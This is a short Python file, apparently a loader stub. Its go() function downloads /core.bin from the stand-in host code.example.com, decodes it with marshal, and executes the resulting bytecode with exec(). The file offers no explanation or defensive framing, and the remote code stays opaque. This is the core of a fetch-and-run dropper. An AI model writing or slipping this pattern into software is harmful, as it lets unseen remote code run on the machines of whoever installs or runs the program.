import http.client
import marshal


def go():
    c = http.client.HTTPSConnection("code.example.com")
    c.request("GET", "/core.bin")
    exec(marshal.loads(c.getresponse().read()))


def stop():
    pass
